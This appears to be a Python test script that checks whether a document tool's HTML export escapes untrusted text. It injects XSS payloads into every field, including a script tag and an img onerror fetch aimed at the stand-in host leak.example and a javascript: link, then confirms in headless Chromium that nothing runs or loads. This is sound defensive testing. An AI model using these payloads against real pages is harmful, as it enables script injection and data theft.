#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""A web page in a browser: it is taken as it was written, asks nobody for anything, and the console stays silent."""

import html.parser
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from tap import Tap

SOURCE = Path(__file__).resolve().parents[2]
SAMPLE = SOURCE / 'data' / 'samples' / 'rust-1.52-fingerprints.afterword'
BROWSER = shutil.which('chromium') or shutil.which('chromium-browser') or shutil.which('google-chrome')
HOST = 'leak.example'
HOSTILE = f'</p></title></style><script src="https://{HOST}/s.js"></script><img src=x onerror="fetch(\'https://{HOST}/\')">'


class Elements(html.parser.HTMLParser):
    """The elements of a page and its texts, in order."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, sorted((name, value or '') for name, value in attributes)))

    def handle_data(self, data):
        text = ' '.join(data.split())
        if text:
            self.found.append(text)


def harden(document, language):
    """What strangers might write, in every place where the report shows it."""
    document['language'] = language
    document['title'] += f' {HOSTILE}'
    for section in document['sections']:
        section['text'] = section.get('text', '') + f'\n\n{HOSTILE} ![x](https://{HOST}/x.png) [x](https://{HOST}/) [y](javascript:alert(1))\n\n' \
            f'| {HOSTILE} | b |\n|---|---|\n| `{HOSTILE}` | **b** |\n\n```\n{HOSTILE}\n```\n\n- [x] {HOSTILE}\n'
    for event in document['events']:
        event['text'] += f' {HOSTILE}'
    for problem in document['problems']:
        problem['text'] += f' {HOSTILE}'


def open_page(page, folder):
    """The page as the browser has it, what the console says, and which addresses the network was asked for."""
    log = folder / 'net.json'
    process = subprocess.run(
        [BROWSER, '--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--disable-background-networking',
         '--disable-component-update', '--disable-sync', '--no-first-run', '--enable-logging=stderr', '--v=0',
         f'--user-data-dir={folder / "profile"}', '--host-resolver-rules=MAP * ~NOTFOUND', f'--log-net-log={log}',
         '--net-log-capture-mode=Everything', '--virtual-time-budget=2000', '--dump-dom', page.as_uri()],
        stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
    asked = log.read_text(errors='replace') if log.exists() else ''
    log.unlink(missing_ok=True)
    console = [line for line in process.stderr.decode(errors='replace').splitlines() if 'CONSOLE' in line]
    return process.stdout.decode(), console, asked


def check_page(tap, page, folder, what):
    written = page.read_text()
    dom, console, asked = open_page(page, folder)
    before, after = Elements(written).found, Elements(dom).found
    wrong = next(((mine, its) for mine, its in zip(before, after) if mine != its), None)
    tap.ok(len(before) == len(after) > 500 and wrong is None, f'{what}: the browser mends nothing', f'{len(before)} {len(after)} {wrong}')
    tap.ok(console == [], f'{what}: the console is silent', '\n'.join(console))
    tap.ok(asked != '' and HOST not in asked, f'{what}: nothing is asked for')


def check_witness(tap, folder):
    """The same eyes do see a page that asks and complains."""
    page = folder / 'witness.html'
    page.write_text(f'<!DOCTYPE html><html><head><title>x</title></head><body><p>a<div>b</div></p><img src="https://{HOST}/x.png"/>'
                    '<script>console.log("heard")</script></body></html>')
    dom, console, asked = open_page(page, folder)
    tap.ok(Elements(page.read_text()).found != Elements(dom).found, 'what the browser mends is seen')
    tap.ok(any('heard' in line for line in console), 'what the console says is heard', console)
    tap.ok(HOST in asked, 'what is asked for is seen')


def main():
    tap = Tap()
    folder = Path(tempfile.mkdtemp(prefix='afterword-html-'))
    binary = os.path.abspath(sys.argv[1])
    try:
        for language, edition in (('en', 'team'), ('de', 'public'), ('ar', 'organisation')):
            for hostile in (False, True):
                document = json.loads(SAMPLE.read_text())
                document['language'] = language
                if hostile:
                    harden(document, language)
                what = f'{"hostile" if hostile else "plain"}, {language}, {edition}'
                source, page = folder / 'page.afterword', folder / 'page.html'
                source.write_text(json.dumps(document))
                process = subprocess.run([binary, 'export', source, '-o', page, '--edition', edition], capture_output=True, timeout=120)
                tap.ok(process.returncode == 0 and process.stderr == b'', f'{what}: the ending tells HTML', process.stderr.decode())
                if shutil.which('tidy') is None:
                    tap.skip(f'{what}: tidy', 'tidy is missing')
                else:
                    said = subprocess.run(['tidy', '-e', '-q', page], capture_output=True, text=True)
                    tap.ok(said.returncode == 0, f'{what}: tidy has nothing to say', said.stderr)
                if BROWSER is None:
                    tap.skip(f'{what}: in a browser', 'chromium is missing')
                else:
                    check_page(tap, page, folder, what)
        if BROWSER is not None:
            check_witness(tap, folder)
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    sys.exit(tap.end())


main()
